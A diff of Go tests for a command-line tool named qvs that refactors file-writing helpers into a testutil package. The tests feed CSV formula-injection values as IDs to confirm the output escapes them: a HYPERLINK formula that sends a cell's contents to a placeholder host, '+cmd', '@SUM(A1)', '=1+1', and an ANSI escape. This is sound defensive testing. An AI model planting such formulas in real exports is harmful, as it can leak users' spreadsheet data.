@@ -1,8 +1,6 @@
 package cli
 
 import (
-	"bytes"
-	"compress/gzip"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -32,8 +30,8 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 		}
 		fmt.Fprintf(&b, "%s,%d,0\n", id, i)
 	}
-	pool := writeFile(t, dir, "pool.csv", b.String())
-	obs := writeFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
+	pool := testutil.WriteFile(t, dir, "pool.csv", b.String())
+	obs := testutil.WriteFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
 	args := []string{"as", "suggest", "--cache-dir", filepath.Join(dir, "cache"), "--pool", pool, "--id-column", "id",
 		"--feature-prefix", "x", "--k", "2", "--format", "csv", "--method", "random", "--batch", "30", "--quiet"}
 	code, out, stderr := qvsCmd(t, append(args, "--observed", obs)...)
@@ -42,7 +40,7 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 	}
 	want := map[int]string{ // pool index -> id as written
 		1: `'=HYPERLINK("http://x/?"&A1)`, 6: "'+cmd", 11: "'-2+3", 16: "'@SUM(A1)", 21: "-5", 26: " sp ", 31: "''quoted"}
-	rows := suggestRows(t, out)
+	rows := testutil.SuggestRows(t, out)
 	var fed strings.Builder
 	fed.WriteString("id,label\nm10,1\nm30,0\n")
 	seen := 0
@@ -60,12 +58,12 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 		t.Fatalf("only %d of the odd ids were suggested; pick another seed", seen)
 	}
 	// Fed back, every id names its item: the next suggestion avoids them all.
-	back := writeFile(t, dir, "back.csv", fed.String())
+	back := testutil.WriteFile(t, dir, "back.csv", fed.String())
 	code, out2, stderr := qvsCmd(t, append(args, "--observed", back, "--batch", "8")...)
 	if code != 0 {
 		t.Fatalf("output fed back as --observed: %s", stderr)
 	}
-	for _, r := range suggestRows(t, out2) {
+	for _, r := range testutil.SuggestRows(t, out2) {
 		if slices.ContainsFunc(rows, func(p []string) bool { return p[1] == r[1] }) {
 			t.Errorf("item %s suggested again after it was observed", r[1])
 		}
@@ -75,7 +73,7 @@ func TestSuggestIDsSpreadsheetSafe(t *testing.T) {
 		t.Errorf("--raw-ids: %s", raw)
 	}
 	// select writes its ids the same way.
-	emb := writeFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
+	emb := testutil.WriteFile(t, dir, "emb.csv", "id,e1,e2\n=1+1,1,0\n-5,0,1\n@x,1,1\n")
 	code, sel, stderr := qvsCmd(t, "select", "--embeddings", emb, "--id-column", "id", "--k", "3", "--format", "csv")
 	if code != 0 || !strings.Contains(sel, ",'=1+1,") || !strings.Contains(sel, ",-5,") || !strings.Contains(sel, ",'@x,") {
 		t.Errorf("select --format csv: exit %d %s\n%s", code, stderr, sel)
@@ -98,8 +96,8 @@ func csvField(s string) string {
 // quoted there too.
 func TestScoredTableQuotesUnprintableIDs(t *testing.T) {
 	dir := t.TempDir()
-	pool := writeFile(t, dir, "pool.csv", "id,x1,x2\n\"red\x1b[31m\",0,0\nb,1,0\nc,0,1\nd,1,1\ne,2,2\n")
-	obs := writeFile(t, dir, "obs.csv", "id,value\nb,1\nc,2\n")
+	pool := testutil.WriteFile(t, dir, "pool.csv", "id,x1,x2\n\"red\x1b[31m\",0,0\nb,1,0\nc,0,1\nd,1,1\ne,2,2\n")
+	obs := testutil.WriteFile(t, dir, "obs.csv", "id,value\nb,1\nc,2\n")
 	code, out, stderr := qvsCmd(t, "as", "suggest", "--pool", pool, "--id-column", "id", "--k", "2", "--observed", obs, "--batch", "3", "--quiet", "--cache-dir", filepath.Join(dir, "cache"))
 	if code != 0 || strings.ContainsAny(out, "\x1b") || !strings.Contains(out, `"red\x1b[31m"`) {
 		t.Errorf("exit %d, %q, %s", code, out, stderr)
@@ -110,8 +108,8 @@ func TestScoredTableQuotesUnprintableIDs(t *testing.T) {
 // audit of the own-pool workflow (README "Use qvs on your own problem").
 func TestASSuggestBadInput(t *testing.T) {
 	dir := t.TempDir()
-	w := func(name, content string) string { return writeFile(t, dir, name, content) }
-	pool := w("p.csv", linePoolCSV(false))
+	w := func(name, content string) string { return testutil.WriteFile(t, dir, name, content) }
+	pool := w("p.csv", testutil.LinePoolCSV(false))
 	suggest := func(observed string, args ...string) []string {
 		return append([]string{"as", "suggest", "--cache-dir", filepath.Join(dir, "cache"), "--observed", observed, "--k", "2"}, args...)
 	}
@@ -132,33 +130,19 @@ func TestASSuggestBadInput(t *testing.T) {
 	})
 }
 
-// asWriteGzip writes body gzip-compressed to dir/name and returns the path.
-func asWriteGzip(t *testing.T, dir, name, body string) string {
-	t.Helper()
-	var b bytes.Buffer
-	z := gzip.NewWriter(&b)
-	z.Write([]byte(body))
-	z.Close()
-	p := filepath.Join(dir, name)
-	if err := os.WriteFile(p, b.Bytes(), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	return p
-}
-
 // The commands that read a CSV pool or table read its .csv.gz as the CSV
 // itself: the same stdout (as suggest's batch, score's table, graph's
 // edges, a kernel from a table); a corrupt file fails with exit 1, empty
 // stdout and an error that names the file and says gzip.
 func TestGzipCSVInputs(t *testing.T) {
 	dir := t.TempDir()
-	body := linePoolCSV(false)
-	plain := writeFile(t, dir, "pool.csv", body)
-	gz := asWriteGzip(t, dir, "pool.csv.gz", body)
-	obs := writeFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
+	body := testutil.LinePoolCSV(false)
+	plain := testutil.WriteFile(t, dir, "pool.csv", body)
+	gz := testutil.WriteGzip(t, dir, "pool.csv.gz", body)
+	obs := testutil.WriteFile(t, dir, "obs.csv", "id,label\nm10,1\nm30,0\n")
 	emb := "x,y\n1,0\n0,1\n1,1\n0.5,0.2\n"
-	embPlain := writeFile(t, dir, "emb.csv", emb)
-	embGz := asWriteGzip(t, dir, "emb.csv.gz", emb)
+	embPlain := testutil.WriteFile(t, dir, "emb.csv", emb)
+	embGz := testutil.WriteGzip(t, dir, "emb.csv.gz", emb)
 	cache := filepath.Join(dir, "cache")
 	cases := []struct {
 		name        string
@@ -179,7 +163,7 @@ func TestGzipCSVInputs(t *testing.T) {
 		}
 	}
 	raw, _ := os.ReadFile(gz)
-	bad := writeFile(t, dir, "bad.csv.gz", string(raw[:len(raw)/2]))
+	bad := testutil.WriteFile(t, dir, "bad.csv.gz", string(raw[:len(raw)/2]))
 	code, out, errs := qvsCmd(t, "as", "suggest", "--cache-dir", cache, "--observed", obs, "--batch", "3", "--id-column", "id", "--feature-prefix", "x", "--k", "2", "--pool", bad)
 	if code != 1 || out != "" || !strings.Contains(errs, bad) || !strings.Contains(errs, "gzip") {
 		t.Errorf("truncated gzip: exit %d, stdout %q, stderr %q", code, out, errs)
@@ -204,10 +188,10 @@ func TestSingleLineCSVBounded(t *testing.T) {
 	if err := os.WriteFile(long, []byte(strings.Repeat("1,", 20<<20)+"1\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	wide := writeFile(t, dir, "wide.csv", strings.Repeat("h", 900_000)+",x\n1,2\n")
-	pool := writeFile(t, dir, "pool.csv", "id,x\na,1\nb,2\nc,3\n")
-	obs := writeFile(t, dir, "obs.csv", "index,label\n0,1\n")
-	space := writeFile(t, dir, "s.yaml", "parameters:\n  - {name: a, lower: 0, upper: 1}\n")
+	wide := testutil.WriteFile(t, dir, "wide.csv", strings.Repeat("h", 900_000)+",x\n1,2\n")
+	pool := testutil.WriteFile(t, dir, "pool.csv", "id,x\na,1\nb,2\nc,3\n")
+	obs := testutil.WriteFile(t, dir, "obs.csv", "index,label\n0,1\n")
+	space := testutil.WriteFile(t, dir, "s.yaml", "parameters:\n  - {name: a, lower: 0, upper: 1}\n")
 	suggest := []string{"--cache-dir", filepath.Join(dir, "cache"), "as", "suggest", "--pool", pool, "--id-column", "id", "--k", "1", "--batch", "1", "--method", "random", "--observed"}
 	for _, c := range []struct {
 		name string
